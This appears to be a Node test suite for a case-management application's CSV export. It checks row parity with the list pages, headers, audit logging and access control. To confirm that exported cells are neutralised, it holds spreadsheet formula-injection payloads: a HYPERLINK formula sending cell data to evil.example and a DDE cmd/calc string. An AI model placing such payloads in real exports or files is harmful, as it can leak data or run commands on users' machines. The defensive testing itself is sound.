// SPDX-License-Identifier: Apache-2.0
// Each list as a table: the same rows as its pages, in a form that programs read and that no spreadsheet runs.
import { readFileSync } from 'node:fs';
import { test, equal, ok, match, lacks, client } from '../lib/tap.mjs';
import { sql, one, once } from '../lib/beneath.mjs';

const roles = ['CASE_MANAGER', 'SUPERVISOR', 'PROGRAMME_MANAGER', 'AUDITOR', 'ADMIN', 'CLINICIAN'];
const staff = Object.fromEntries(await Promise.all(roles.map(async role => [role, await client().as(role)])));
const manager = staff.CASE_MANAGER;
const reference = (await manager.xml('/cases')).all('case', 'reference').filter(Boolean)[4];

// A reader after RFC 4180, of its own making.
function read(text) {
  const rows = [[]];
  let cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
    else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') { rows.at(-1).push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { rows.at(-1).push(cell); cell = ''; rows.push([]); i++; }
    else if (c === '\n') throw new Error('a line feed alone');
    else cell += c;
  }
  equal([quoted, cell, rows.pop()], [false, '', []], 'the last row ends');
  const [names, ...rest] = rows;
  return rest.map(row => (equal(row.length, names.length, 'cells of a row'), Object.fromEntries(names.map((name, i) => [name, row[i]]))));
}
async function table(someone, path) {
  const answer = await someone.get(`${path}${path.includes('?') ? '&' : '?'}as=csv`);
  equal(answer.status, 200, path);
  equal(answer.bytes.subarray(0, 3).toString('hex'), 'efbbbf', 'spreadsheets see that it is UTF-8');
  return { answer, rows: read(answer.text.replace(/^\uFEFF/, '')) };
}
// What the pages of a list show, one after the other.
async function pages(someone, path, element, attribute) {
  const found = [];
  for (let next = '', turns = 0; turns < 60; turns++) {
    const page = await someone.xml(path + (next ? `${path.includes('?') ? '&' : '?'}after=${next}` : ''));
    equal(page.status, 200, path);
    for (const name of element.split(' ')) found.push(...page.all(name, attribute).filter(value => value !== undefined));
    next = page.attribute('list', 'next');
    if (!next || path.startsWith('/clients')) return found;
  }
  throw new Error(`${path}: never ends`);
}

const evil = ['=HYPERLINK("http://evil.example/"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '＝1+1', 'a "quoted", text'];
for (const title of evil) await manager.submit(await manager.get(`/case/task/add?case=${reference}`), '/case/task/add', { title });
await manager.submit(await manager.get(`/case/goal/add?case=${reference}`), '/case/goal/add', { title: 'A goal', agreement: 'agreed', words: 'first line\nsecond line' });

const lists = [
  ['CASE_MANAGER', '/cases', 'case', 'reference', 'case'],
  ['CASE_MANAGER', '/cases?status=discharged', 'case', 'reference', 'case'],
  ['SUPERVISOR', '/cases/team', 'case', 'reference', 'case'],
  ['PROGRAMME_MANAGER', '/cases/programme', 'case', 'reference', 'case'],
  ['CASE_MANAGER', '/work', 'item', 'when', 'group'],
  ...[['assessments', 'assessment', 'id'], ['outcomes', 'outcome', 'id'], ['referrals', 'referral', 'id'], ['goals', 'goal action score', 'id'], ['tasks', 'task', 'id'], ['appointments', 'appointment', 'id'], ['services', 'service', 'id'], ['incidents', 'incident', 'id'],
    ['documents', 'document', 'digest', 'blake2b_256'], ['consents', 'consent', 'id'], ['notes', 'note', 'reference', 'note'], ['reviews', 'review', 'id'],
    ['discharge', 'discharge', 'id'], ['follow-ups', 'follow-up', 'id'], ['team', 'assignment', 'id']]
    .map(([part, element, attribute, column = attribute]) => ['CASE_MANAGER', `/case/${part}?case=${reference}`, element, attribute, column]),
  ['ADMIN', '/people', 'person', 'id', 'person'],
  ['SUPERVISOR', '/team', 'worker approval cover', 'id', 'id'],
  ['PROGRAMME_MANAGER', '/figures', 'figure', 'count', 'count'],
  ['PROGRAMME_MANAGER', '/figures/cases?metric=total&figure=open', 'case', 'reference', 'case'],
  ['SUPERVISOR', '/intake', 'item', 'id', 'id'],
  ['ADMIN', '/providers', 'provider', 'id', 'provider'],
  ['ADMIN', '/structure', 'programme team site', 'code', 'code'],
  ['AUDITOR', `/audit/case?case=${reference}`, 'entry', 'seq', 'seq'],
];
for (const [role, path, element, attribute, column] of lists)
  await test(`${path.replace(/case=\w+/, 'case=…')}: the table has the rows of its pages, and the page leads to it`, async () => {
    const shown = await pages(staff[role], path, element, attribute);
    const { rows, answer } = await table(staff[role], path);
    const expected = path.startsWith('/audit') ? rows.map(row => row[column]).slice(-shown.length) : rows.map(row => row[column]);
    equal(expected.filter(Boolean), shown, 'in the same order'); // of the audit log there is more by then: what was asked just now
    equal(answer.type, 'text/csv; charset=utf-8');
    match(answer.headers['content-disposition'], /^attachment; filename="[a-z-]+-\d{4}-\d\d-\d\d\.csv"/);
    equal(answer.headers['x-content-type-options'], 'nosniff');
    const link = (await staff[role].get(path)).links.find(href => /[?&]as=csv$/.test(href));
    ok(link?.startsWith(path.split('?')[0]), 'a link on the page');
    equal((await staff[role].get(link)).status, 200, 'which leads there');
  });

await test('each room of a case that lists something has its table', () => {
  const read = path => readFileSync(new URL(`../../${path}`, import.meta.url), 'utf8');
  const tables = [...read('module/screen/lists.c').matchAll(/^ {4}\{"(\/[a-z/-]+)"/gm)].map(([, path]) => path);
  const rooms = [...read('xslt/part/case_rooms.xsl').matchAll(/select="'(\/case\/[a-z-]+)'"/g)].map(([, path]) => path);
  equal(rooms.filter(path => !tables.includes(path) && !['/case/print', '/case/restrict'].includes(path)), []);
});

await test('a list of several pages is one table', async () => {
  const large = await pages(staff.ADMIN, '/people', 'person', 'id');
  await sql(Array.from({ length: 120 }, (_, i) => `INSERT INTO person (login, name, directory_key) VALUES ('csv-${once}-${i}', 'Csv ${i}', 'csv-${once}-${i}');`).join('\n'));
  const all = await pages(staff.ADMIN, '/people', 'person', 'id');
  equal(all.length, large.length + 120);
  equal((await table(staff.ADMIN, '/people')).rows.map(row => row.person), all);
  const from = (await staff.ADMIN.xml('/people')).attribute('list', 'next');
  equal((await table(staff.ADMIN, `/people?after=${from}`)).rows.length, all.length, 'wherever one looks from');
  await sql(`DELETE FROM person WHERE login LIKE 'csv-${once}-%'`);
});

await test('what was chosen above a list is chosen in its table', async () => {
  const [first] = (await staff.SUPERVISOR.xml('/cases/team')).all('owner', 'id').filter(Boolean);
  const path = `/cases/team?owner=${first}`;
  const link = (await staff.SUPERVISOR.get(path)).links.find(href => href.includes('as=csv'));
  match(link, new RegExp(`owner=${first}`));
  equal((await table(staff.SUPERVISOR, path)).rows.map(row => row.case), await pages(staff.SUPERVISOR, path, 'case', 'reference'));
});

await test('no cell is a formula; whatever was typed comes whole', async () => {
  const titles = (await table(manager, `/case/tasks?case=${reference}`)).rows.map(row => row.title);
  for (const title of evil) ok(titles.includes(title.startsWith('a') ? title : `'${title}`), title);
  ok(!titles.some(title => /^[=+@＝]|^-\D/.test(title)), 'none begins like one');
  const goal = (await table(manager, `/case/goals?case=${reference}`)).rows.find(row => row.title === 'A goal');
  equal(goal.words, 'first line\nsecond line');
});

await test('it stands in the audit log as an export, with the number of rows', async () => {
  const { rows } = await table(manager, `/case/tasks?case=${reference}`);
  const [[kind, detail, seen]] = await sql(`SELECT a.kind, a.detail, f.reference FROM audit_entry a JOIN case_file f ON f.id = a.case_id
    WHERE a.route = '/case/tasks' AND a.kind = 'export' ORDER BY a.at DESC, a.seq DESC LIMIT 1`);
  equal([kind, detail, seen], ['export', `${rows.length} rows`, reference]);
  await table(staff.ADMIN, '/people');
  equal(await one("SELECT COUNT(*) > 0 FROM audit_entry WHERE route = '/people' AND kind = 'export'"), '1', 'also of a list without any client');
});

await test('a table shows no more than its page: not another’s case, not without the page’s own need', async () => {
  equal((await staff.ADMIN.get('/cases?as=csv')).status, 403);
  equal((await staff.ADMIN.get(`/case/goals?case=${reference}&as=csv`)).status, 403);
  equal((await staff.PROGRAMME_MANAGER.get('/cases/team?as=csv')).status, 403);
  equal((await manager.get('/case/goals?case=AAAAAAAA6&as=csv')).status, 404);
  const stranger = await client().get('/cases?as=csv');
  equal([stranger.status, stranger.location], [303, '/sign-in?next=%2Fcases%3Fas%3Dcsv']);
});

await test('a page without a list has no table', async () => {
  equal((await manager.get('/account?as=csv')).status, 404);
  lacks((await manager.get('/account')).text, /as=csv/);
});
